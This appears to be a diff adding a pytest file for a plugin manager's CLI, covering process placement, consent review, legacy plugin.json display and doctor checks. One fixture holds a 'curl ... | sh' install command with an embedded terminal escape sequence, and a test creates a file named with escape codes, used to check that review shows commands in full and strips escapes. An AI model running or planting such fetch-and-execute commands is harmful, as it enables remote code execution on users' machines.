@@ -1,0 +1,179 @@
+"""`place`, and what the other commands show of a plugin that runs in a process."""
+
+from __future__ import annotations
+
+import json
+import sys
+from typing import TYPE_CHECKING
+
+import pytest
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from .conftest import Operator
+
+LONG = "x" * 300
+
+FOLDER = f"""
+description = "counts"
+[daemon]
+command = ["./run.sh", "{LONG}", "a b"]
+[daemon.limits]
+memory_mb = 64
+[permissions]
+env = {{ names = ["API_KEY"], reason = "to ask the service" }}
+"""
+
+LEGACY = {
+    "name": "monitor", "version": "1.2.0", "description": "watches", "runtime": "python3", "activationMode": "tagged",
+    "dependencies": {"file": "requirements.txt", "install_command": f"curl http://x/{LONG} | sh\u001b[2J"},
+    "tools": [{"name": "reverse", "description": "turns", "command": "python3", "args": ["reverse.py", LONG],
+               "requiresConfirmation": True, "schema": {"type": "object", "properties": {}}}],
+    "background": {"enabled": True, "command": "python3", "args": ["daemon.py"],
+                   "communication": {"type": "socket", "path": "/run/m.sock"}, "events": ["TOOL_CALL_END"]},
+}  # fmt: skip
+
+
+@pytest.fixture
+def folder(operator: Operator) -> Path:
+    path = operator.home.plugins_dir / "counter"
+    path.mkdir(parents=True)
+    (path / "ally-plugin.toml").write_text(FOLDER)
+    (path / "run.sh").write_text("")
+    return path
+
+
+def test_a_plugin_moves_into_a_process_and_back_and_both_are_recorded(enabled: Operator) -> None:
+    moved = enabled.ask("place", "loop-warner", "process")
+    assert moved["placement"] == "process"
+    assert moved["daemon"]["command"] == [sys.executable, "-m", "ally_plugins.daemon", "loop_warner:Plugin"]
+    assert "no sandbox" in moved["trust"]
+    assert enabled.ask("list")["plugins"][0]["placement"] == "process"
+    back = enabled.run("place", "loop-warner", "inline").stdout
+    assert "they do not contain it" in back
+    assert [record["data"] for record in enabled.records("place")] == [
+        {"placement": "process"},
+        {"placement": "inline"},
+    ]
+
+
+def test_a_named_python_is_shown_and_used(enabled: Operator) -> None:
+    enabled.run("place", "loop-warner", "process", "--interpreter", sys.executable)
+    assert f'interpreter = "{sys.executable}"' in enabled.home.config_file.read_text()
+    assert sys.executable in enabled.run("info", "loop-warner").stdout
+    enabled.run("place", "loop-warner", "inline")
+    assert "interpreter" not in enabled.home.config_file.read_text()
+
+
+@pytest.mark.parametrize(
+    ("words", "code", "reason"),
+    [
+        (("loop-warner", "sandbox"), 2, "'sandbox' is not one of"),
+        (("loop-warnr", "process"), 2, "did you mean 'loop-warner'?"),
+        (("loop-warner", "inline", "--env", "x"), 2, "are for a process"),
+        (("loop-warner", "process", "--env", "x", "--interpreter", "y"), 2, "exclude each other"),
+        (("loop-warner", "process", "--env", "x"), 1, "to build it: ally-plugins env x"),
+        (("loop-warner", "process", "--env", "../x"), 1, "is not there"),
+        (("loop-warner", "process", "--interpreter", "no-such-python"), 2, "no program 'no-such-python' on PATH"),
+        (("loop-warner", "process", "--interpreter", "/no/python"), 1, "there is no Python at '/no/python'"),
+    ],
+)
+def test_what_cannot_be_is_refused_and_changes_nothing(
+    enabled: Operator, words: tuple[str, ...], code: int, reason: str
+) -> None:
+    before = enabled.home.config_file.read_text()
+    assert reason in enabled.run("place", *words, code=code).stderr
+    assert enabled.home.config_file.read_text() == before
+    assert enabled.records("place") == []
+
+
+def test_what_ships_a_program_is_not_placed_inline(operator: Operator, folder: Path) -> None:
+    assert folder.is_dir()
+    operator.run("enable", "counter", "--yes")
+    said = operator.run("place", "counter", "inline", code=1).stderr
+    assert "ships a program and no class" in said
+
+
+def test_consent_shows_the_whole_command_its_limits_and_its_variables(operator: Operator, folder: Path) -> None:
+    shown = operator.run("review").stdout
+    assert f"{folder}/run.sh {LONG} 'a b'" in shown
+    assert "memory 64 MiB" in shown
+    assert "API_KEY (not granted)" in shown
+    assert "is given your environment's API_KEY" in shown
+    assert "no sandbox" in shown
+    agreed = operator.ask("enable", "counter", "--yes")
+    assert agreed["daemon"]["command"] == [f"{folder}/run.sh", LONG, "a b"]
+    assert agreed["variables"] == []
+    assert operator.ask("info", "counter")["variables"] == ["API_KEY"]
+    assert "API_KEY (passed on)" in operator.run("info", "counter").stdout
+
+
+def test_a_changed_file_waits_and_review_names_it(operator: Operator, folder: Path) -> None:
+    operator.run("enable", "counter", "--yes")
+    (folder / "evil\x1b[2J.py").write_text("x")
+    (folder / "run.sh").write_text("y")
+    shown = operator.run("review").stdout
+    assert "file changed run.sh" in shown
+    assert "file added evil\\x1b[2J.py" in shown
+    assert "\x1b" not in shown
+    assert operator.ask("list")["plugins"][0]["state"] == "waiting for consent"
+    operator.run("enable", "counter", "--yes")
+    assert operator.ask("review")["pending"] == []
+
+
+def test_a_plugin_json_shows_downloads_programs_and_questions_untruncated(operator: Operator) -> None:
+    path = operator.home.plugins_dir / "monitor"
+    path.mkdir(parents=True)
+    (path / "plugin.json").write_text(json.dumps(LEGACY))
+    shown = operator.run("review").stdout
+    assert f"runs: curl http://x/{LONG} | sh\\x1b[2J" in shown
+    assert f"reverse: python3 reverse.py {LONG}, for each call" in shown
+    assert "before each run of reverse" in shown
+    assert "only after a message with +monitor" in shown
+    assert "socket /run/m.sock" in shown
+    assert "\x1b" not in shown
+    data = operator.ask("review")["pending"][0]["legacy"]
+    assert data["downloads"]["install_command"] == LEGACY["dependencies"]["install_command"]  # type: ignore[index]
+
+
+def test_a_folder_and_a_package_of_one_name_are_both_listed_and_chosen_by_enable(warner: Operator) -> None:
+    path = warner.home.plugins_dir / "loop-warner"
+    path.mkdir(parents=True)
+    (path / "ally-plugin.toml").write_text(FOLDER)
+    assert [plugin["label"] for plugin in warner.ask("list")["plugins"]] == ["loop-warner", "folder:loop-warner"]
+    assert warner.ask("enable", "folder:loop-warner", "--yes")["origin"] == "folder"
+    folder, package = warner.ask("list")["plugins"]
+    assert (folder["label"], folder["state"], folder["name"]) == ("folder:loop-warner", "enabled", "loop-warner")
+    assert (package["label"], package["state"]) == ("loop-warner", "disabled")
+    assert package["reason"].endswith("ally-plugins enable loop-warner")
+    assert warner.ask("enable", "loop-warner", "--yes")["origin"] == "package"
+    assert warner.ask("info", "loop-warner")["origin"] == "package"
+    assert warner.ask("info", "folder:loop-warner")["state"] == "disabled"
+
+
+def test_a_folder_is_nothing_to_uninstall(operator: Operator, folder: Path) -> None:
+    said = operator.run("uninstall", "counter", "--yes", code=2).stderr
+    assert f"is the folder {folder}, which no installer knows" in said
+
+
+def test_doctor_finds_programs_that_are_not_there(operator: Operator, folder: Path) -> None:
+    (folder / "ally-plugin.toml").write_text('[daemon]\ncommand = ["no-such-program-anywhere"]')
+    operator.run("enable", "counter", "--yes")
+    findings = operator.ask("doctor", code=1)["findings"]
+    found = [each for each in findings if "no-such-program-anywhere" in each["text"]]
+    assert [each["level"] for each in found] == ["problem"]
+    assert found[0]["remedy"]
+
+
+def test_doctor_finds_a_program_that_may_not_be_run(operator: Operator, folder: Path) -> None:
+    assert folder.is_dir()
+    operator.run("enable", "counter", "--yes")
+    findings = operator.ask("doctor", code=1)["findings"]
+    assert any("run.sh" in each["text"] and each["remedy"].startswith("chmod u+x") for each in findings)
+
+
+def test_doctor_finds_an_environment_that_is_broken(enabled: Operator) -> None:
+    (enabled.home.envs_dir / "half" / "bin").mkdir(parents=True)
+    findings = enabled.ask("doctor", code=0)["findings"]
+    assert any("the environment 'half' is not complete" in each["text"] for each in findings)
